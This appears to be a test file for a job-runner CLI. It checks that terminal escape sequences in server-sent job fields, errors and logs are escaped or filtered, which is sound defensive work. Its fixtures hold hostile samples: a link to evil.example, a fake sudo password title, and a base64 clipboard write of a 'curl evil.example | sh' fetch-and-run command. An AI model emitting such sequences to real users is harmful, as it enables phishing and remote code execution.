/**
 * What `status`, `list` and `logs` let through to a terminal of what a server sent: against a
 * stand-in API whose job carries terminal escape sequences in its command, labels, failure and log.
 * A terminal is a pseudo-terminal made by util-linux `script` (Debian's essential bsdutils); a pipe is the test's own.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { runCli } from '../helpers/cli.ts';
import { aJobDocument, startStandInApi, type StandInApi } from '../helpers/stand-in-api.ts';

const JOB_ID = 'job-01jdq8m4zv3k9x2c7f5h6w8r0t';
const LINK = '\u001b]8;;https://evil.example\u0007docs\u001b]8;;\u0007';
const TITLE = '\u001b]0;sudo: password for you:\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const LOG_LINE = `\u001b[31mred\u001b[0m ${CLIPBOARD}copied${CLEAR}`;
/** ESC, BEL, the other C0 controls but tab and newline, DEL and C1: what a terminal acts on. */
const ACTIONABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const quote = (word: string) => `'${word.replaceAll("'", "'\\''")}'`;

/** The CLI with a pseudo-terminal as its stdin, stdout and stderr: all it wrote comes out on `stdout`, newlines as CRLF. */
function onTerminal(args: string[], env: Record<string, string>) {
  return runCli([], { env, command: ['script', '-qec', [process.execPath, 'cli/fargate-jobs.ts', ...args].map(quote).join(' '), '/dev/null'] });
}

describe('fargate-jobs output of what a server sent', () => {
  let api: StandInApi;
  let env: Record<string, string>;

  before(async () => {
    const job = aJobDocument({
      id: JOB_ID,
      command: ['echo', LINK],
      status: 'FAILED',
      exitCode: 1,
      failure: { category: 'USER_EXIT', message: `exited 1${TITLE}` },
      labels: { team: `platform${CLEAR}` },
    });
    api = await startStandInApi(({ method, url }) => {
      if (url.pathname === `/jobs/${JOB_ID}`) return { body: job };
      if (url.pathname === '/jobs' && method === 'POST') return { status: 202, body: { ...job, id: `job-1${TITLE}`, status: 'QUEUED' } };
      if (url.pathname === '/jobs') return { body: { jobs: [job], nextCursor: null } };
      if (url.pathname === `/jobs/${JOB_ID}/logs`) {
        return { body: { lines: [{ timestamp: '2026-12-01T10:00:02.000Z', message: LOG_LINE, stream: 'stdout' }], nextCursor: 'c1', complete: true } };
      }
      if (url.pathname === '/jobs/job-01jdq8m4zv3k9x2c7f5h6w8r0v') return { status: 404, body: { error: { code: 'JOB_NOT_FOUND', message: `no such job${TITLE}` } } };
      return undefined;
    });
    env = { FARGATE_JOBS_URL: api.url, FARGATE_JOBS_TOKEN: 'fjt_stand_in' };
  });

  after(async () => {
    await api?.close();
  });

  test('status shows the control characters in command, failure and labels as escapes', async () => {
    const result = await runCli(['status', JOB_ID], { env });

    assert.equal(result.code, 0, result.stderr);
    assert.doesNotMatch(result.stdout, ACTIONABLE);
    assert.match(result.stdout, /^command: +echo \\x1b\]8;;https:\/\/evil\.example\\x07docs\\x1b\]8;;\\x07$/m);
    assert.match(result.stdout, /^failure: +USER_EXIT: exited 1\\x1b\]0;sudo: password for you:\\x07$/m);
    assert.match(result.stdout, /^labels: +team=platform\\x1b\[2J\\x1b\[H$/m);
  });

  test('list shows them as escapes too', async () => {
    const result = await runCli(['list'], { env });

    assert.equal(result.code, 0, result.stderr);
    assert.doesNotMatch(result.stdout, ACTIONABLE);
    assert.match(result.stdout, /echo \\x1b\]8;;https:\/\/evil\.example\\x07docs/);
  });

  test('run --detach shows the id it was answered as text, not obeyed', async () => {
    const result = await runCli(['run', '--detach', '--', 'true'], { env });

    assert.equal(result.code, 0, result.stderr);
    assert.doesNotMatch(result.stdout, ACTIONABLE);
    assert.equal(result.stdout, 'job-1\\x1b]0;sudo: password for you:\\x07\n');
  });

  test("an API error's message is shown, not obeyed", async () => {
    const result = await runCli(['status', 'job-01jdq8m4zv3k9x2c7f5h6w8r0v'], { env });

    assert.equal(result.code, 1, result.stderr);
    assert.doesNotMatch(result.stderr, ACTIONABLE);
    assert.match(result.stderr, /no such job\\x1b\]0;sudo: password for you:\\x07/);
  });

  test("logs to a pipe passes the job's output on byte for byte", async () => {
    const result = await runCli(['logs', JOB_ID], { env });

    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stdout, `${LOG_LINE}\n`);
  });

  test('logs on a terminal keeps colours and drops the clipboard write and the screen clear; --raw keeps them', async () => {
    const filtered = await onTerminal(['logs', JOB_ID], env);
    const raw = await onTerminal(['logs', JOB_ID, '--raw'], env);

    assert.equal(filtered.code, 0, filtered.stderr);
    assert.equal(filtered.stdout.replaceAll('\r\n', '\n'), '\u001b[31mred\u001b[0m copied\n');
    assert.equal(raw.stdout.replaceAll('\r\n', '\n'), `${LOG_LINE}\n`);
  });

  test('wait on a terminal filters the job output the same way', async () => {
    const result = await onTerminal(['wait', JOB_ID], env);

    assert.equal(result.code, 1, result.stdout);
    assert.ok(result.stdout.includes('\u001b[31mred\u001b[0m copied\r\n'), JSON.stringify(result.stdout));
    assert.doesNotMatch(result.stdout, /\u001b\]|\u001b\[2J/);
  });
});
